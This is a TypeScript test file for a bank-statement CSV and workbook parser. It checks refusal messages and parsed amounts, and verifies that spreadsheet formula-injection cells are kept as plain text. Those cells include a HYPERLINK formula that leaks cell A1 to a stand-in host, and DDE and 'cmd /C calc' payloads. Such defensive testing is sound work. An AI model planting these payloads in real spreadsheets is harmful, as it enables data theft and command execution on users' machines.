// Every hostile or broken CSV and workbook of the test data gets the expected answer of its note, quickly.
import { beforeEach, describe, expect, test } from 'vitest'
import { readTable } from '../../../main/worker/table/read-table.ts'
import { minorToDecimal, sumMinor } from '../../../shared/value/money.ts'
import { answerOfRefusal, asAnswer } from '../../support/file/parser-answers.ts'
import { readShared, readSharedJson, skipWithoutSharedData } from '../../support/shared-data.ts'

interface Note {
  readonly want: string
  readonly sum?: string
  readonly values?: readonly string[]
  readonly dates?: readonly string[]
}

const { files = {} } = readSharedJson<{ files?: Readonly<Record<string, Note>> }>('data', 'bad', 'notes.json')

describe('bad tables', () => {
  beforeEach(skipWithoutSharedData)

  test.each(Object.entries(files).filter(([name]) => /^(csv|xls)/.test(name)))('%s', async (name, note) => {
    const file = await readTable(readShared('data', 'bad', name))
    const expected = note.want.split('|')
    if (!file.ok) {
      expect([...expected, ...(expected.includes('error') ? ['415', '422'] : [])]).toContain(
        String(answerOfRefusal(file.error).status),
      )
      expect(answerOfRefusal(file.error).message).toMatch(/^[A-Z].{15,}\.$/)
      return
    }
    const rows = file.value.statements.flatMap((statement) => statement.rows)
    const shown = rows.map((row) => minorToDecimal(row.amount, row.currency))
    expect(expected).toContain(`ok:${rows.length}`)
    if (note.sum !== undefined) expect(minorToDecimal(sumMinor(rows.map((row) => row.amount)), 'CHF')).toBe(note.sum)
    if (note.values !== undefined) expect(shown).toEqual(note.values)
    if (note.dates !== undefined) expect(rows.map((row) => row.booking_date)).toEqual(note.dates)
  })

  test('cells that a spreadsheet would run are stored unchanged', async () => {
    const file = await readTable(readShared('data', 'bad', 'csv_formula_injection.csv'))
    if (!file.ok) throw new Error(answerOfRefusal(file.error).message)
    expect(file.value.statements[0]?.rows.map((row) => row.text)).toEqual([
      '=HYPERLINK("http://x.invalid?"&A1,"Klick")',
      "+cmd|' /C calc'!A0",
      '-2+3',
      '@SUM(1+1)',
      '=1+1',
      '=DDE("cmd";"/C calc";"x")',
    ])
  })

  test.each([
    ['csv_no_amount.csv', 'No column with amounts was found. Found: "Datum" as booking_date, "Buchungstext" as text.'],
    ['csv_addresses.csv', 'No column with booking dates was found.'],
    ['csv_one_column.csv', 'It has only one column.'],
    [
      'csv_amounts_thousand_only.csv',
      'The column "Betrag" contains figures like "1.234", which may be thousands or decimals',
    ],
    ['csv_far_dates.csv', 'Line 2: the date "01.01.0001" does not exist or is outside 1900 to 2199'],
    ['xls_encrypted_like.xlsx', 'the workbook is protected with a password'],
  ])('%s says what is wrong', async (name, sentence) => {
    const file = await readTable(readShared('data', 'bad', name))
    expect(asAnswer(file)).toMatchObject({ ok: false, error: { message: expect.stringContaining(sentence) } })
  })
})
